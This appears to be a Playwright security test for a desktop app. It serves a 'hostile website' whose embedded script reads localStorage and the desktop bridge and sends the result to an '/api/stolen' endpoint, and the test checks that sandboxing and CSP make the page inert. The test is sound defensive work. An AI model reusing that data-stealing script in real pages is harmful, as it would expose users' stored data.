import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { apiVersion } from '@hydraulics/common/nouns/health';
import type { Page } from '@playwright/test';
import { callBridge } from '../../fixtures/desktop/network.ts';
import { expect, switchWebsite, test } from '../../fixtures/desktop/test.ts';
import { heading } from '../../fixtures/staff/back-office.ts';

/** A document that collects what it can access, and writes it where the test can read it. */
const hostileDocument = `<!doctype html><title>Hostile</title><p id="found">no script</p>
<script>
  const attempt = work => { try { return String(work()); } catch (error) { return error.name; } };
  document.getElementById('found').textContent =
    [typeof window.desktop, attempt(() => JSON.stringify(localStorage)), self.origin].join(' ');
  fetch('/api/stolen?' + encodeURIComponent(document.getElementById('found').textContent));
</script>`;

/** A website known to the app that an attacker has taken over. */
async function startHostileWebsite() {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    if (url.startsWith('/api/health')) {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ status: 'ok', version: '', api: apiVersion }));
      return;
    }
    response.setHeader('content-type', 'text/html');
    // A website's headers for its own documents are ignored.
    response.setHeader('content-security-policy', "default-src * 'unsafe-inline'");
    response.setHeader('cross-origin-resource-policy', 'cross-origin');
    response.end(hostileDocument);
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.closeAllConnections();
    return new Promise(resolve => server.close(resolve));
  };
  return { url: `http://127.0.0.1:${port}`, asked, close };
}

/** Follows an address as a link in rich text does. */
const followLink = (page: Page, href: string) =>
  page.evaluate(href => {
    const link = document.createElement('a');
    link.href = href;
    document.body.append(link);
    link.click();
  }, href);

test('the documents of a website have no power in the app: no bridge, no script, no data of another website', {
  tag: '@fake',
}, async ({ fakeDesktop, openSignedIn, expectFailures }) => {
  expectFailures(/ERR_ABORTED|Content Security Policy|sandboxed|failed: csp|answered (4|5)\d\d|Failed to load|frame/);
  const hostile = await startHostileWebsite();
  const trusted = await openSignedIn();
  const trustedOrigin = new URL(trusted.url()).origin;
  await trusted.evaluate(() => localStorage.setItem('draft:somebody', 'a draft for the trusted website'));

  // The window is gone before its call is answered.
  const page = await switchWebsite(fakeDesktop, trusted, () =>
    callBridge(trusted, 'servers.use', { address: hostile.url }).catch(() => undefined),
  );
  await expect(heading(page, 'Sign in')).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('draft:somebody'))).toBeNull();

  // No document of the website opens by a link, by address, or in a frame.
  const screen = page.url();
  for (const path of ['/uploads/page.html', '/api/page', '/picked/page']) {
    const refused = page.waitForEvent('requestfailed', request => request.url().endsWith(path));
    await followLink(page, path);
    await refused;
    expect(page.url()).toBe(screen);
  }
  const framed = await page.evaluate(
    () =>
      new Promise<string>(resolve => {
        const frame = document.createElement('iframe');
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
        frame.src = '/uploads/page.html';
        document.body.append(frame);
      }),
  );
  expect(framed).toBe('frame-src');

  // A document that opens nevertheless is inert.
  const address = new URL('/uploads/page.html', page.url()).href;
  const answered = page.waitForResponse(address);
  await fakeDesktop.requestFromApp('window.load', address);
  const headers = await (await answered).allHeaders();
  expect(headers['content-security-policy']).toBe("default-src 'none'; sandbox; frame-ancestors 'none'");
  expect(headers['cross-origin-resource-policy']).toBe('same-origin');
  await expect(page.locator('#found')).toHaveText('no script');
  expect(await page.evaluate(() => ['desktop' in window, self.origin])).toEqual([false, 'null']);
  const message = { channel: 'session.read', data: null, url: address, inFrame: false };
  expect(await fakeDesktop.requestFromApp('invoke', message)).toMatchObject({ ok: false });
  // Screens of the previous website cannot act for this one.
  expect(await fakeDesktop.requestFromApp('invoke', { ...message, url: `${trustedOrigin}/dashboard` })).toMatchObject({
    ok: false,
  });
  expect(hostile.asked.filter(url => url.startsWith('/api/stolen'))).toEqual([]);
  await hostile.close();
});
